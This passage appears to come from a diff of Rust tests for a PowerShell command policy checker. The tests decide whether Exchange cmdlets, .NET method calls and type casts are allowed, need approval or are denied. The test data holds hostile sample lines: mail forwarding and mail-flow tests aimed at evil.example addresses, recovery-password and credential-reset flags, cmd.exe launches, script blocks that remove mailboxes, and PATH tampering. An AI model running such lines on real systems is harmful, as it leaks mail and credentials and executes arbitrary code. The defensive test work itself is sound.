+            "[System.Management.ManagementObject]::new",
+        ),
+        (
+            r"[wmiclass]'Win32_Process'",
+            "[System.Management.ManagementClass]::new",
+        ),
+        (
+            r"[IO.StreamWriter]$w = 'C:\x.txt'",
+            "[System.IO.StreamWriter]::new",
+        ),
+        (
+            r"function f { param([IO.FileStream]$s = 'C:\x') }",
+            "[System.IO.FileStream]::new",
+        ),
+        (
+            r"[IO.StreamWriter]::new('C:\x.txt')",
+            "[System.IO.StreamWriter]::new",
+        ),
+        (
+            r"[System.IO.File]::WriteAllText('C:\x', 'y')",
+            "[System.IO.File]::WriteAllText",
+        ),
+    ];
+    for (line, task) in denied {
+        let d = check_with(&p, line);
+        let inv = d.invocations.iter().find(|i| i.name == *task);
+        assert_eq!(d.decision, Effect::Deny, "{line}: {}", d.reason);
+        assert!(
+            inv.is_some_and(|i| i.kind == TaskKind::Method
+                && !i.dynamic
+                && i.rule.as_deref() == Some("no-io")),
+            "{line}: {:?}",
+            d.invocations
+        );
+    }
+    // A hashtable cast runs the setters of any type that does not hold entries as data.
+    for (line, task) in [
+        (
+            "[xml]@{ InnerXml = '<a/>' }",
+            "[System.Xml.XmlDocument]::new",
+        ),
+        (
+            "[System.Collections.ArrayList]@{ Capacity = 3 }",
+            "[System.Collections.ArrayList]::new",
+        ),
+        ("[mailaddress]@{}", "[System.Net.Mail.MailAddress]::new"),
+    ] {
+        let d = check_with(&p, line);
+        assert!(
+            d.invocations
+                .iter()
+                .any(|i| i.name == task && i.kind == TaskKind::Method && !i.dynamic),
+            "{line}: {:?}",
+            d.invocations
+        );
+    }
+    // Unknown types and code-running types: dynamic whatever the policy says.
+    for line in [
+        r"[Contoso.Tools.Writer]'C:\x'",
+        r"[Contoso.Tools.Writer]@{ Path = 'C:\x' }",
+        r"'x' -as $t",
+        r"[powershell]'x'",
+        r"[type]'System.IO.File'",
+        r"[System.Collections.Generic.List[string]]@('a')",
+    ] {
+        let d = check_with(&p, line);
+        assert_eq!(d.decision, Effect::Approval, "{line}: {}", d.reason);
+        assert!(d.invocations.iter().any(|i| i.dynamic), "{line}");
+    }
+    // Pure conversions build a value and run nothing.
+    for line in [
+        "[int]'5'",
+        "[string[]]('a','b')",
+        "[datetime]'2024-01-01'",
+        "[timespan]'01:00:00'",
+        "[guid]'6f9619ff-8b86-d011-b42d-00cf4fc964ff'",
+        "[version]'1.2.3'",
+        "[ipaddress]'10.0.0.1'",
+        "[mailaddress]'a@contoso.com'",
+        "[xml]'<a/>'",
+        "[regex]'a+'",
+        "[pscustomobject]@{ Name = 'x' }",
+        "[ordered]@{ a = 1 }",
+        "[hashtable]@{}",
+        "[bool]1",
+        "[char]65",
+        "'5' -as [int]",
+    ] {
+        let d = check_with(&p, line);
+        assert!(d.invocations.is_empty(), "{line}: {:?}", d.invocations);
+    }
+}
+
+/// A method name on the safe list must be harmless on every type that has it: `.Replace()`
+/// is `FileInfo.Replace` (moves files) on a file object, so it is safe only on a string.
+#[test]
+fn safe_methods_hold_for_every_receiver() {
+    let p = permissive("");
+    for line in [
+        "(Get-Item C:\\a.txt).Replace('C:\\b.txt', 'C:\\c.txt')",
+        "$f = Get-Item C:\\a.txt; $f.Replace('C:\\b.txt', $null)",
+        "$t.Replace('a', 'b')",
+        "$r.Replace('x', { 'y' })",
+        "Get-ChildItem | % Replace 'a' 'b'",
+        "$f.Delete()",
+        "$c.Children.Remove($o)",
+        "$t = Get-Item C:\\a; $t = $t.Replace('C:\\b', $null)",
+        "$t = 'a'; $t = $t.Split(','); $t.Replace('a', 'b')",
+        "$a = [System.Collections.ArrayList]@(); Set-Variable a (Get-Item C:\\x); $a.Remove(1)",
+        "$a = [System.Collections.ArrayList]@(); Get-Mailbox -OutVariable a; $a.Remove(1)",
+        "$a = [System.Collections.ArrayList]@(); Get-Mailbox @h; $a.Remove(1)",
+        "$a = [System.Collections.ArrayList]@(); Set-Item variable:a (Get-Item C:\\x); $a.Remove(1)",
+        "$a = [System.Collections.ArrayList]@(); sv a (Get-Item C:\\x); $a.Remove(1)",
+        "$a = [System.Collections.ArrayList]@(); Get-Mailbox | Tee-Object -Variable a; $a.Remove(1)",
+        "$a = [System.Collections.ArrayList]@(); foreach ($a in $x) {}; $a.Remove(1)",
+        "$h = [hashtable]$PSDefaultParameterValues; $h.Add('Set-Mailbox:ForwardingSmtpAddress', 'x@evil.example')",
+        "$h = [ordered]@{}; $h.Add('a', 1)",
+    ] {
+        let d = check_with(&p, line);
+        assert!(
+            d.invocations.iter().any(|i| i.dynamic),
+            "{line}: {:?}",
+            d.invocations
+        );
+        assert_eq!(d.decision, Effect::Approval, "{line}");
+    }
+    for line in [
+        "$t = \"$p\" + $id; $t = $t.Replace('<', '_'); $t = $t.Replace('>', '_')",
+        "'a,b'.Replace(',', ';')",
+        "([string]$x).Replace('a', 'b')",
+        "\"$x\".Replace('a', 'b')",
+        "$d.AddDays(1).ToShortDateString()",
+        "$s.Trim().Split(',')",
+    ] {
+        let d = check_with(&p, line);
+        assert!(d.invocations.is_empty(), "{line}: {:?}", d.invocations);
+    }
+}
+
+/// A typed variable's type is certain only if nothing else in the line may write it: every
+/// write the resolver counts for splats (nested bodies, loops, parameters, `++`, common
+/// parameters, other spellings) also makes its type uncertain, so do commands that may set
+/// their caller's variables unseen, and a call in code that runs at another time (a function
+/// body, a stored block) may see whatever the variable then holds.
+#[test]
+fn typed_variables_follow_every_write_and_scope() {
+    let p = permissive("");
+    for line in [
+        "$t = 'a'; function f($t) { $t.Replace('C:\\b.txt', $null) }",
+        "$t = 'a'; function f { $t.Replace('C:\\b.txt', $null) }",
+        "$t = 'a'; $later = { $t.Replace('C:\\b.txt', $null) }",
+        "$t = 'a'; & { $t = Get-Item C:\\a.txt }; $t.Replace('C:\\b.txt', $null)",
+        "$t = 'a'; if ($true) { $t = Get-Item C:\\a.txt }; $t.Replace('C:\\b.txt', $null)",
+        "$t = 'a'; $variable:t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
+        "$t = 'a'; [object]$T = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
+        "$t = 'a'; Get-Report; $t.Replace('C:\\b.txt', $null)",
+        "$t = 'a'; Get-Item C:\\a.txt -PipelineVariable t | % { $t.Replace('C:\\b.txt', $null) }",
+        "$a = [System.Collections.ArrayList]@(); $a++; $a.Remove(1)",
+    ] {
+        let d = check_with(&p, line);
+        assert!(
+            d.invocations.iter().any(|i| i.dynamic),
+            "{line}: {:?}",
+            d.invocations
+        );
+        assert_eq!(d.decision, Effect::Approval, "{line}");
+    }
+    for line in [
+        "$t = 'a<b'; & { $t.Replace('<', '_') }",
+        "$t = 'a<b'; if ($true) { $t.Replace('<', '_') }",
+        "$t = 'a<b'; Get-Mailbox | ForEach-Object { $t.Replace('<', '_') }",
+        "$b = [System.IO.File]::ReadAllBytes('C:\\x'); $t = 'a<b'; $t.Replace('<', '_')",
+    ] {
+        let d = check_with(&p, line);
+        assert!(
+            !d.invocations.iter().any(|i| i.dynamic),
+            "{line}: {:?}",
+            d.invocations
+        );
+        assert_eq!(d.decision, Effect::Allow, "{line}");
+    }
+}
+
+/// A .NET method task on a known type sets no variable: a splat beside it keeps its value, and
+/// the splat's parameters still decide the line.
+#[test]
+fn method_tasks_leave_splats_certain() {
+    let policy = format!(
+        "{SPLAT_POLICY}\n[[rule]]\nid = \"reads\"\neffect = \"allow\"\ntasks = [\"[System.IO.File]::ReadAllBytes\"]\n"
+    );
+    const H: &str = "$h = @{ Identity = 'rob@contoso.com'; DisplayName = 'Rob' }";
+    const F: &str = "$h = @{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }";
+    let allowed = [format!(
+        "$b = [System.IO.File]::ReadAllBytes('C:\\x'); {H}; Set-Mailbox @h"
+    )];
+    let attacks = [
+        format!("$b = [System.IO.File]::ReadAllBytes('C:\\x'); {F}; Set-Mailbox @h"),
+        format!("{H}; $b = [System.IO.File]::ReadAllBytes('C:\\x'); $h = $b; Set-Mailbox @h"),
+    ];
+    let allowed: Vec<&str> = allowed.iter().map(String::as_str).collect();
+    let attacks: Vec<&str> = attacks.iter().map(String::as_str).collect();
+    let mut failures = check_under(&policy, &allowed, Allow);
+    failures.extend(check_under(&policy, &attacks, Deny));
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// Static calls on known types are tasks named `[Full.Type]::Method` (accelerators and the
+/// `System.` prefix resolved), decided by policy like cmdlets; globs work. Code-running types,
+/// unknown types and delegate-taking calls with computed arguments are dynamic.
+#[test]
+fn static_method_calls_are_tasks() {
+    let p = permissive(
+        r#"
+[[rule]]
+id = "file-reads"
+effect = "approval"
+approvers = ["admins"]
+tasks = ["[System.IO.File]::Read*"]
+
+[[rule]]
+id = "file-writes"
+effect = "deny"
+tasks = ["[IO.File]::Write*"]
+"#,
+    );
+    let cases: &[(&str, Effect, &str)] = &[
+        (
+            r"[System.IO.File]::ReadAllBytes('C:\x')",
+            Effect::Approval,
+            "[System.IO.File]::ReadAllBytes",
+        ),
+        (
+            r"[IO.File]::ReadAllBytes('C:\x')",
+            Effect::Approval,
+            "[System.IO.File]::ReadAllBytes",
+        ),
+        (
+            r"[system.io.file]::readalltext($p)",
+            Effect::Approval,
+            "[System.IO.File]::readalltext",
+        ),
+        (
+            r"[IO.File]::WriteAllBytes('C:\x', $b)",
+            Effect::Deny,
+            "[System.IO.File]::WriteAllBytes",
+        ),
+        (
+            r"[System.IO.File]::WriteAllText('C:\x', 'y')",
+            Effect::Deny,
+            "[System.IO.File]::WriteAllText",
+        ),
+        (
+            r"[IO.Path]::GetTempFileName()",
+            Effect::Allow,
+            "[System.IO.Path]::GetTempFileName",
+        ),
+    ];
+    for (line, effect, task) in cases {
+        let d = check_with(&p, line);
+        assert_eq!(d.decision, *effect, "{line}: {}", d.reason);
+        let inv = d.invocations.iter().find(|i| i.name == *task);
+        assert!(
+            inv.is_some_and(|i| i.kind == TaskKind::Method && !i.dynamic),
+            "{line}: {:?}",
+            d.invocations
+        );
+    }
+    for line in [
+        "[scriptblock]::Create('Remove-Mailbox x')",
+        "[System.Management.Automation.ScriptBlock]::Create($s)",
+        "[powershell]::Create()",
+        "[type]::GetType('System.IO.File')",
+        "[System.Reflection.Assembly]::LoadFile('C:\\x.dll')",
+        "[Activator]::CreateInstance($t)",
+        "[Diagnostics.Process]::Start('cmd.exe')",
+        "[Contoso.Tools]::Run()",
+        "[System.Linq.Enumerable]::Where($a, $f)",
+        "[Array]::ForEach($a, $sb)",
+        "[regex]::Replace('a', 'a', $sb)",
+        "[IO.File]::$m('C:\\x')",
+        "[IO.File]::ReadAllBytes::Invoke('x')",
+    ] {
+        let d = check_with(&p, line);
+        assert_eq!(d.decision, Effect::Approval, "{line}: {}", d.reason);
+        assert!(d.invocations.iter().any(|i| i.dynamic), "{line}");
+    }
+}
+
+/// Standing read access does not cover a read cmdlet given a parameter through which it acts:
+/// each such parameter needs approval under `reads-that-act` (shipped policies), the same
+/// cmdlet without it stays standing access, and network probes need approval.
+#[test]
+fn reads_that_act_through_a_parameter_need_approval() {
+    let policies = shipped();
+    let acting: &[(&str, &str)] = &[
+        ("Test-Mailflow -TargetEmailAddress exfil@evil.example", "reads-that-act"),
+        ("Test-Mailflow EX01 -TargetEmailAddress a@b.c -TargetEmailAddressDisplayName x", "reads-that-act"),
+        ("Test-Message -Sender a@contoso.com -Recipients b@contoso.com -SendReportTo x@evil.example", "reads-that-act"),
+        ("Get-SiteMailboxDiagnostics -Identity sm1 -SendMeEmail", "reads-that-act"),
+        ("Get-MobileDeviceStatistics -Mailbox rob -GetMailboxLog -NotificationEmailAddresses x@evil.example", "reads-that-act"),
+        ("Get-MobileDeviceStatistics -Mailbox rob -ShowRecoveryPassword", "reads-that-act"),
+        ("Get-ActiveSyncDeviceStatistics -Mailbox rob -GetMailboxLog", "reads-that-act"),
+        ("Test-ActiveSyncConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-OwaConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-ImapConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-PopConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-EcpConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-CalendarConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-WebServicesConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-PowerShellConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-UMConnectivity -ResetPIN $true", "reads-that-act"),
+        ("Test-SystemHealth -OutFileLocation C:\\Windows\\x.xml", "reads-that-act"),
+        ("Test-SystemHealth -ConfigurationFileLocation C:\\x.xml", "reads-that-act"),
+        ("Get-CalendarDiagnosticLog -Identity rob -LogLocation C:\\Temp", "reads-that-act"),
+        ("Get-ClientAccessService -IncludeAlternateServiceAccountCredentialPassword", "reads-that-act"),
+        ("Get-ComplianceSearchAction -IncludeCredential", "reads-that-act"),
+        ("Test-AssistantHealth -ResolveProblems", "reads-that-act"),
+        ("Get-AgentLog -Location C:\\Users\\admin\\Documents", "reads-that-act"),
+        ("Get-Mailbox | ? { Test-Mailflow -TargetEmailAddress x@evil.example }", "reads-that-act"),
+        ("Test-Connection 10.0.0.1", "network-tests"),
+        ("Test-NetConnection contoso.com -Port 443", "network-tests"),
+        ("Test-WSMan server01", "network-tests"),
+    ];
+    let mut failures = Vec::new();
+    for (line, rule) in acting {
+        let d = check_with(&policies, line);
+        let deciding = d
+            .invocations
+            .iter()
+            .find(|i| i.decision == Effect::Approval);
+        if d.decision != Effect::Approval || deciding.and_then(|i| i.rule.as_deref()) != Some(*rule)
+        {
+            failures.push(format!(
+                "{line}: wanted approval under `{rule}`, got {:?}: {}",
+                d.decision, d.reason
+            ));
+        }
+    }
+    for line in [
+        "Test-Mailflow",
+        "Test-Mailflow -TargetDatabase DB01",
+        "Get-MobileDeviceStatistics -Mailbox rob",
+        "Test-OwaConnectivity",
+        "Test-SystemHealth",
+        "Get-SiteMailboxDiagnostics -Identity sm1",
+        "Get-Mailbox",
+        "Clear-Host",
+        "Start-Sleep -Seconds 5",
+        "cls",
+    ] {
+        let d = check_with(&policies, line);
+        if d.decision != Effect::Allow {
+            failures.push(format!(
+                "{line}: wanted allow, got {:?}: {}",
+                d.decision, d.reason
+            ));
+        }
+    }
+    // An acting parameter bound by property name from pipeline input is as good as written.
+    for line in [
+        "[pscustomobject]@{ ComputerName = 'evil.example' } | Get-Service",
+        "@{ ComputerName = 'evil.example' } | Get-Process",
+        "Get-Mailbox | Get-Unlisted-Thing | Get-Service",
+        "$servers | Get-Process -Name lsass",
+    ] {
+        let d = check_with(&policies, line);
+        if d.decision == Effect::Allow {
+            failures.push(format!(
+                "{line}: a pipeline may bind -ComputerName, yet allowed: {}",
+                d.reason
+            ));
+        }
+    }
+    // An abbreviation that could be an acting parameter is not standing access.
+    let d = check_with(&policies, "Test-Mailflow -TargetEmail x@evil.example");
+    if d.decision == Effect::Allow {
+        failures.push(format!("ambiguous -TargetEmail was allowed: {}", d.reason));
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// The shipped policies decide .NET method tasks as they decide the matching cmdlets: file
+/// reads and writes need approval, the network, the registry, the directory and WMI are
+/// denied, value computations are standing access.
+#[test]
+fn shipped_policies_decide_method_tasks() {
+    let policies = shipped();
+    let cases: &[(&str, Effect, Option<&str>)] = &[
+        (
+            "[System.IO.File]::ReadAllBytes('C:\\x.pfx')",
+            Effect::Approval,
+            Some("file-reads"),
+        ),
+        (
+            "[IO.File]::ReadAllText('C:\\x.txt')",
+            Effect::Approval,
+            Some("file-reads"),
+        ),
+        (
+            "Get-Content C:\\x.txt",
+            Effect::Approval,
+            Some("file-reads"),
+        ),
+        (
+            "[System.IO.File]::WriteAllBytes('C:\\x', $b)",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[IO.File]::WriteAllText('C:\\x', 'y')",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[IO.StreamWriter]'C:\\x.txt'",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[System.Net.WebClient]::new()",
+            Effect::Deny,
+            Some("network-access"),
+        ),
+        (
+            "[Net.Sockets.TcpClient]::new('evil.example', 443)",
+            Effect::Deny,
+            Some("network-access"),
+        ),
+        (
+            "[adsi]'LDAP://CN=x,DC=contoso,DC=com'",
+            Effect::Deny,
+            Some("directory-and-wmi"),
+        ),
+        (
+            "[wmiclass]'Win32_Process'",
+            Effect::Deny,
+            Some("directory-and-wmi"),
+        ),
+        (
+            "[CimSession]'server01'",
+            Effect::Deny,
+            Some("directory-and-wmi"),
+        ),
+        (
+            "[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\\x', 'y', 1)",
+            Effect::Deny,
+            Some("host-control"),
+        ),
+        (
+            "[Environment]::SetEnvironmentVariable('PATH', 'C:\\evil')",
+            Effect::Deny,
+            Some("host-control"),
+        ),
+        (
+            "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))",
+            Effect::Allow,
+            None,
+        ),
+        (
+            "[Convert]::ToInt32('10', 2)",
+            Effect::Allow,
+            Some("value-methods"),
+        ),
+        (
+            "[IO.Path]::GetFileName('C:\\x\\y.txt')",
+            Effect::Allow,
+            Some("value-methods"),
+        ),
+        (
+            "[IO.Path]::GetTempFileName()",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[IO.File]::Open('C:\\x', 'Open')",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        ("[Contoso.Tool]::Run()", Effect::Deny, None),
+    ];
+    let mut failures = Vec::new();
+    for (line, effect, rule) in cases {
+        let d = check_with(&policies, line);
+        let deciding = d.invocations.iter().find(|i| i.decision == *effect);
+        let rule_ok = match rule {
+            Some(r) => deciding.and_then(|i| i.rule.as_deref()) == Some(*r),
+            None => true,
+        };
+        if d.decision != *effect || !rule_ok {
+            failures.push(format!(
+                "{line}: wanted {effect:?} under {rule:?}, got {:?}: {}",
+                d.decision, d.reason
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// A method call that is dynamic keeps its method name and kind, so a deny rule naming it makes
+/// the decision deny even where the dynamic default is approval.
+#[test]
+fn deny_rules_name_dynamic_method_calls() {
+    let p = permissive(
+        r#"
+[[rule]]
+id = "no-process"
+effect = "deny"
+tasks = ["[System.Diagnostics.Process]::*", "[System.Management.Automation.ScriptBlock]::*", "[Contoso.*]::*"]
+"#,
+    );
+    for line in [
+        "[Diagnostics.Process]::Start('cmd.exe')",
+        "[System.Diagnostics.Process]::GetProcessById(4).Kill()",
+        "[scriptblock]::Create('Remove-Mailbox x')",
+        "[Contoso.Tools]::Run()",
+        "[Contoso.Writer]'C:\\x'",
+    ] {
+        let d = check_with(&p, line);
+        assert_eq!(d.decision, Effect::Deny, "{line}: {}", d.reason);
+        assert!(
+            d.invocations
+                .iter()
+                .any(|i| i.rule.as_deref() == Some("no-process")
+                    && i.kind == TaskKind::Method
+                    && i.dynamic),
+            "{line}: {:?}",
+            d.invocations
+        );
+    }
 }
